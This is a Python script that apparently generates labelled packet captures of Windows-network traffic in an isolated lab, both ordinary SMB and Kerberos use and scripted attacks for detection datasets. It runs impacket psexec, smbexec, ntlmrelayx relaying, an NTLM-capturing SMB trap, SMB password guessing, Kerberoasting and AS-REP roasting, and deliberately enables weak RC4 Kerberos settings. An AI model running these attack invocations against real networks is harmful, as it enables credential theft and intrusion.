"""What Windows networks speak: file sharing, remote administration, Kerberos, remote desktops; attacked with impacket, and used as intended."""

import subprocess
import time

import services
from lab import LAB, Capture, Lab, sh
from office import Office
from registry import Sample, scene

IMPACKET = '/usr/share/doc/python3-impacket/examples'
FILES = '10.20.0.20'
REALM = 'OFFICE.EXAMPLE.TEST'


def impacket(host, tool: str, *options: str, timeout: float = 60, stdin: str | None = None) -> str:
    shown = ' '.join(o.replace(services.PASSWORD, '***') for o in options)
    return host.run('/usr/bin/python3', f'{IMPACKET}/{tool}.py', *options, timeout=timeout, stdin=stdin, show=f'impacket-{tool} {shown}')


@scene(Sample(
    'smb-session.pcap', 'alice fetches and stores files on a share, over SMB 3.',
    'Negotiation up to SMB 3.1.1, an NTLMv2 login, a listing, a file each way.',
    ['`ntlm-hash-exposure`: the challenge and the answer can be read and guessed at', '`smbv1`, technique signing (low): the server does not insist on signatures', 'no `brute-force`, no `lateral-movement`, no `data-exfiltration`'],
    ['smb2.cmd == 1 | the login', 'ntlmssp.messagetype == 3 | NTLMv2 in clear', 'smb2.filename | files']))
def smb_session(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('files',), delay_ms=1)
    services.samba(office.files)
    with Capture(office.switch, 'smb-session.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('smbclient', f'//{FILES}/team', '-U', f'alice%{services.PASSWORD}', '-c', 'ls; get notes.txt /dev/null; put /etc/hostname hello.txt; ls',
                         show=f'smbclient //{FILES}/team -U alice%*** -c "ls; get notes.txt; put hello.txt; ls"')


@scene(Sample(
    'smb1-session.pcap', 'An old client and a server that still accepts it: SMB 1, without signing.',
    'A listing and a file over SMB 1 (smbclient -m NT1), the login with NTLMv2.',
    ['`smbv1`: SMB 1 in use', '`ntlm-hash-exposure`', 'no `exploit-attempt`'],
    ['smb | SMB 1', 'smb.cmd == 0x73 | the login']))
def smb1_session(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('files',), delay_ms=1)
    services.samba(office.files, oldest='NT1')
    with Capture(office.switch, 'smb1-session.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('smbclient', f'//{FILES}/team', '-m', 'NT1', '--option=client min protocol=NT1', '-U', f'alice%{services.PASSWORD}', '-c', 'ls; get notes.txt /dev/null',
                         show=f'smbclient //{FILES}/team -m NT1 -U alice%*** -c "ls; get notes.txt"')


@scene(Sample(
    'psexec-attempt.pcap', 'impacket-psexec and impacket-smbexec with a stolen password: the admin share, a program, the service manager.',
    'Login over SMB 2, ADMIN$ and the other shares, a program of a random name uploaded where it is allowed to, OpenSCManager and CreateService over DCE/RPC. The server is Samba, so no service starts.',
    ['`lateral-movement`: the service manager is asked over SMB by 192.168.10.24 (ATT&CK T1021.002, T1569.002)', '`ntlm-hash-exposure`', '`smbv1`, technique signing (low): the server does not insist on signatures'],
    ['svcctl | the service manager', 'smb2.cmd == 3 | shares']))
def psexec_attempt(lab: Lab) -> None:
    office = Office(lab, ('kiosk',), ('files',), delay_ms=1)
    # Below SMB 3 nothing is encrypted.
    services.samba(office.files, newest='SMB2_10')
    target = f'alice:{services.PASSWORD}@{FILES}'
    with Capture(office.switch, 'psexec-attempt.pcap', 'tcpdump', '-i', 'br0'):
        impacket(office.kiosk, 'psexec', target, 'whoami')
        impacket(office.kiosk, 'smbexec', target, stdin='exit\n')
        impacket(office.kiosk, 'services', target, 'list')


@scene(Sample(
    'smb-guessed.pcap', 'A kiosk guesses the SMB password of alice, twenty times.',
    'smbclient once per word of a list; the server answers STATUS_LOGON_FAILURE, and lets in at the last.',
    ['`brute-force` over SMB by 192.168.10.24 (ATT&CK T1110)', '`brute-force-success`', '`ntlm-hash-exposure`', '`smbv1`, technique signing (low): the server does not insist on signatures', 'no `lateral-movement`'],
    ['smb2.nt_status == 0xc000006d | refused']))
def smb_guessed(lab: Lab) -> None:
    office = Office(lab, ('kiosk',), ('files',), delay_ms=1)
    services.samba(office.files)
    with Capture(office.switch, 'smb-guessed.pcap', 'tcpdump', '-i', 'br0'):
        for word in [*(f'guess-{n:02}' for n in range(20)), services.PASSWORD]:
            office.kiosk.run('smbclient', f'//{FILES}/team', '-U', f'alice%{word}', '-c', 'ls', show=f'smbclient //{FILES}/team -U alice%*** -c ls   # 21 words')


@scene(Sample(
    'ntlm-relay-trap.pcap', 'impacket-smbserver waits for somebody to come, and keeps the answer to its challenge.',
    'bob opens \\\\\\\\192.168.10.24\\\\drop by mistake: the kiosk is no file server, but asks for NTLM and gets it.',
    ['`ntlm-hash-exposure`: bob, towards 192.168.10.24 (ATT&CK T1187)', '`smbv1`, technique signing (low): the server does not insist on signatures'],
    ['ntlmssp.messagetype == 3 | what can be guessed at offline']))
def ntlm_relay_trap(lab: Lab) -> None:
    office = Office(lab, ('bob', 'kiosk'), ())
    folder = LAB / 'drop'
    folder.mkdir(exist_ok=True)
    (folder / 'plan.txt').write_text('nothing of interest\n')
    office.kiosk.spawn('/usr/bin/python3', f'{IMPACKET}/smbserver.py', '-smb2support', 'drop', str(folder), show='impacket-smbserver -smb2support drop .')
    office.kiosk.wait_for_port(445, 20)
    with Capture(office.switch, 'ntlm-relay-trap.pcap', 'tcpdump', '-i', 'br0'):
        office.bob.run('smbclient', '//192.168.10.24/drop', '-U', f'OFFICE/bob%{services.PASSWORD}', '-c', 'ls', show='smbclient //192.168.10.24/drop -U OFFICE/bob%*** -c ls')


@scene(Sample(
    'ntlm-relay.pcap', 'impacket-ntlmrelayx lets alice log on at the kiosk, and uses her log-on at the file server.',
    'alice opens a share of the kiosk: it offers her the challenge that the file server has just made up for it, and gets in as alice.',
    ['`ntlm-hash-exposure`, technique relay (high): 192.168.10.24 relays the log-on of 192.168.10.21 to 10.20.0.20 (ATT&CK T1557.001)', '`lateral-movement`: it tries to install a service there', '`smbv1`, technique signing (low): the server does not insist on signatures'],
    ['ntlmssp.ntlmserverchallenge | the same eight bytes from two servers', 'ntlmssp.messagetype == 3 | what alice answers, and what is handed on']))
def ntlm_relay(lab: Lab) -> None:
    office = Office(lab, ('alice', 'kiosk'), ('files',), delay_ms=1)
    services.samba(office.files, newest='SMB2_10')
    folder = LAB / 'relay'
    folder.mkdir(exist_ok=True)
    # Debian has no dsinternals, which only an attack wants that is not used here.
    for module, name in (('system/Guid', 'Guid'), ('system/DateTime', 'DateTime'), ('common/cryptography/X509Certificate2', 'X509Certificate2'),
                         ('common/data/hello/KeyCredential', 'KeyCredential')):
        path = folder / f'dsinternals/{module}.py'
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f'class {name}: pass\n')
    relay = f'cd {folder} && sleep 300 | PYTHONPATH={folder} /usr/bin/python3 {IMPACKET}/ntlmrelayx.py -t smb://{FILES} -smb2support --no-wcf-server --no-raw-server -c whoami'
    office.kiosk.spawn('sh', '-c', relay, show=f'impacket-ntlmrelayx -t smb://{FILES} -smb2support -c whoami')
    office.kiosk.wait_for_port(445, 30)
    with Capture(office.switch, 'ntlm-relay.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('smbclient', '//192.168.10.24/plans', '-m', 'SMB2', '-U', f'FILES/alice%{services.PASSWORD}', '-c', 'ls', show='smbclient //192.168.10.24/plans -m SMB2 -U FILES/alice%*** -c ls')
        time.sleep(3)


def kdc(host) -> None:
    """An MIT Kerberos realm: alice, an old service account that only knows RC4, one account without pre-authentication."""
    folder = LAB / 'kdc'
    sh('rm', '-rf', str(folder))
    folder.mkdir()
    (folder / 'krb5.conf').write_text(f'''[libdefaults]
default_realm = {REALM}
dns_lookup_kdc = false
dns_lookup_realm = false
rdns = false
allow_weak_crypto = true
allow_rc4 = true
permitted_enctypes = aes256-cts aes128-cts rc4-hmac
udp_preference_limit = 1
[realms]
{REALM} = {{
  kdc = {FILES}
}}
''')
    (folder / 'kdc.conf').write_text(f'''[kdcdefaults]
kdc_ports = 88
kdc_tcp_ports = 88
[realms]
{REALM} = {{
  database_name = {folder}/principal
  key_stash_file = {folder}/stash
  acl_file = {folder}/acl
  supported_enctypes = aes256-cts:normal aes128-cts:normal rc4-hmac:normal
}}
''')
    environment = ('env', f'KRB5_CONFIG={folder}/krb5.conf', f'KRB5_KDC_PROFILE={folder}/kdc.conf')
    sh(*environment, 'kdb5_util', 'create', '-s', '-r', REALM, '-P', services.PASSWORD)
    for line in (f'addprinc +requires_preauth -pw {services.PASSWORD} alice', f'addprinc -requires_preauth -pw {services.PASSWORD} scanner',
                 *[f'addprinc -e rc4-hmac:normal -pw {services.PASSWORD} {name}/files.example.com' for name in ('mssql', 'backup', 'sharepoint', 'http', 'erp', 'print')],
                 f'addprinc -pw {services.PASSWORD} host/files.example.com', f'addprinc -pw {services.PASSWORD} host/web.example.com'):
        sh(*environment, 'kadmin.local', '-r', REALM, '-q', line)
    host.spawn(*environment, 'krb5kdc', '-n', '-r', REALM)
    host.lab.packages.add('krb5-kdc')
    host.wait_for_port(88, 20)


def kerberos(host, *command: str, stdin: str | None = None) -> None:
    host.run('env', f'KRB5_CONFIG={LAB}/kdc/krb5.conf', f'KRB5CCNAME=FILE:{LAB}/kdc/cache-{host.name}', *command, stdin=stdin, show=' '.join(command))


@scene(
    Sample('kerberos-tickets.pcap', 'alice gets a ticket and visits two servers. Near miss of Kerberos attacks.',
           'kinit with pre-authentication and AES; two service tickets, both AES.',
           ['no `kerberos-attack`: AES throughout'],
           ['kerberos.msg_type == 11 | her ticket', 'kerberos.msg_type == 13 | the servers']),
    Sample('kerberoast.pcap', 'A kiosk asks for the RC4 tickets of six service accounts, to guess their passwords at leisure.',
           'kinit, then kvno with RC4 only for mssql, backup, sharepoint, http, erp and print, in a second.',
           ['`kerberos-attack`: Kerberoasting by 192.168.10.24 (ATT&CK T1558.003)', 'no `brute-force`'],
           ['kerberos.msg_type == 13 | TGS-REP', 'kerberos.etype == 23 | RC4']),
    Sample('asrep-roast.pcap', 'impacket-GetNPUsers asks, in the name of ten people, for tickets that need no pre-authentication; one account is set so.',
           'AS-REQ without pre-authentication; PREAUTH_REQUIRED, unknown names, and one AS-REP with RC4 that can be guessed at offline.',
           ['`kerberos-attack`: AS-REP roasting by 192.168.10.24 (ATT&CK T1558.004)', 'no enumeration: eight unknown names are fewer than it takes'],
           ['kerberos.error_code == 6 | no such name', 'kerberos.msg_type == 11 | the answer that can be cracked']))
def kerberos_realm(lab: Lab) -> None:
    office = Office(lab, ('alice', 'kiosk'), ('files',), delay_ms=1)
    kdc(office.files)
    with Capture(office.switch, 'kerberos-tickets.pcap', 'tcpdump', '-i', 'br0'):
        kerberos(office.alice, 'kinit', 'alice', stdin=services.PASSWORD + '\n')
        kerberos(office.alice, 'kvno', 'host/files.example.com', 'host/web.example.com')
    with Capture(office.switch, 'kerberoast.pcap', 'tcpdump', '-i', 'br0'):
        kerberos(office.kiosk, 'kinit', 'alice', stdin=services.PASSWORD + '\n')
        kerberos(office.kiosk, 'kvno', '-e', 'rc4-hmac', *[f'{name}/files.example.com' for name in ('mssql', 'backup', 'sharepoint', 'http', 'erp', 'print')])
    with Capture(office.switch, 'asrep-roast.pcap', 'tcpdump', '-i', 'br0'):
        names = lab.folder / 'names.txt'
        names.write_text('\n'.join(['alice', 'scanner', *(f'user{n}' for n in range(8))]) + '\n')
        impacket(office.kiosk, 'GetNPUsers', f'{REALM}/', '-usersfile', str(names), '-no-pass', '-dc-ip', FILES, '-request')
